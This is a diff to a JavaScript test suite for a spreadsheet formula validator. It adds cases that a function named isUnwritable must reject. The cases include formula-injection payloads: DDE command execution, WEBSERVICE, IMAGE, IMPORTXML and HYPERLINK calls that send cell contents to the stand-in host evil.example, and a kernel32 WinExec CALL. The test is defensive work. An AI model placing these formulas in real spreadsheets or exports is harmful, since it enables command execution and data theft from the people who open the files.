@@ -51,14 +51,24 @@ describe("shared formulas", () => {
 });
 
 describe("formulas that must not reach a file", () => {
-  it.each([`=cmd|'/c calc'!A0`, "=[1]Sheet1!A1", "='C:\\x\\[gia.xlsx]Sheet1'!A1", "=SUM(BangLa[Tiền])"])(
-    "%s",
-    (formula) => {
-      expect(isUnwritable(formula, ["tblDeAn"])).toBe(true);
-    },
-  );
+  it.each([
+    `=cmd|'/c calc'!A0`,
+    "=[1]Sheet1!A1",
+    "='C:\\x\\[gia.xlsx]Sheet1'!A1",
+    "=SUM(BangLa[Tiền])",
+    '=WEBSERVICE("http://evil.example/?"&A1)',
+    '=_xlfn.WEBSERVICE ("http://evil.example")',
+    '=IF(TRUE,hyperlink("http://evil.example/?"&B2,"Xem"),0)',
+    '=IMAGE("https://evil.example/"&A1)',
+    '=LET(f,WEBSERVICE,f("http://evil.example"))',
+    '=IMPORTXML("http://evil.example","//a")',
+    '=RTD("x","","y")',
+    '=CALL("kernel32","WinExec","JCJ","calc",0)',
+  ])("%s", (formula) => {
+    expect(isUnwritable(formula, ["tblDeAn"])).toBe(true);
+  });
 
-  it.each(["=SUM(tblDeAn[Tổng kinh phí])", '=A1&"|"', "=SUM({1,2;3,4})", "=KC.GIA(A1)"])(
+  it.each(["=SUM(tblDeAn[Tổng kinh phí])", '=A1&"|"', "=SUM({1,2;3,4})", "=KC.GIA(A1)", '="WEBSERVICE(1)"'])(
     "%s is harmless",
     (formula) => {
       expect(isUnwritable(formula, ["tblDeAn"])).toBe(false);
